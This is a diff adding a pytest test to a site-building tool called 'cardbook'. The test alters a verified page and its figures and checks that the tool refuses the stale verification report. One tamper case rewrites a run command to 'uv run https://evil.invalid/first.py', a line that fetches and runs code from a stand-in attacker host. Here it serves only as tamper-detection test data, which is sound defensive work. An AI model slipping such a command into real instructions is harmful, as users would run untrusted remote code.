@@ -13,6 +13,8 @@ from cardbook.verify.extraction import extract_examples
 from cardbook.verify.report import read_verify_report
 from cardbook.verify.results import hash_example
 from tests.conftest import Cardbook, replace, write
+from tests.verify.test_verify import packages as packages
+from tests.verify.test_verify import packages_site as packages_site
 
 EXAMPLE = """
 <div data-example="{0}"><div class="highlight" data-cell="{0}-1"><pre><code>print(1)</code></pre></div>
@@ -138,6 +140,37 @@ def test_report_of_a_site_with_other_outputs_is_refused(small: Path, site: Path,
     replace(page, "count 1", "count 999")
     with pytest.raises(UntrustedInputError, match="first: this site has other content than was verified"):
         read_verify_report(place, site, small / "report.json")
+
+
+def test_report_counts_only_for_all_that_the_page_shows(packages: Path, cardbook: Cardbook) -> None:
+    project = load_project(packages.parent, "offline")
+    items = json.dumps(json.loads(cardbook("verify", packages, "--root", packages.parent, "--json").stdout))
+    write(packages.parent / "report.json", items)
+    marked = cardbook("mark-verified", packages, packages.parent / "report.json", "--root", packages.parent)
+    assert (marked.returncode, marked.stderr) == (0, "")
+    page = packages / "chapters" / "numbers" / "index.html"
+    whole = page.read_text(encoding="utf-8")
+    assert "Copied and run again" in whole
+    # The mark itself is no change.
+    assert len(read_verify_report(project, packages, packages.parent / "report.json")) == 2
+    for before, after in (
+        ("uv run first.py", "uv run https://evil.invalid/first.py"),
+        (" of memory", " of memory, on a toaster"),
+        ("<summary>Install with pip", "<summary>Do not install with pip"),
+        ('alt="A line."', 'alt="A circle."'),
+        ('data-example="first"', 'data-example="first" style="color: white"'),
+    ):
+        assert before in whole
+        write(page, whole.replace(before, after, 1))
+        with pytest.raises(UntrustedInputError, match="first: this site has other content than was verified"):
+            read_verify_report(project, packages, packages.parent / "report.json")
+    write(page, whole)
+    for figure in packages.glob("figures/first-2*"):
+        content = figure.read_bytes()
+        figure.write_bytes(content + b"\0")
+        with pytest.raises(UntrustedInputError, match="first: this site has other content than was verified"):
+            read_verify_report(project, packages, packages.parent / "report.json")
+        figure.write_bytes(content)
 
 
 def test_site_without_one_of_the_examples_is_refused(small: Path, site: Path, place: Project) -> None:
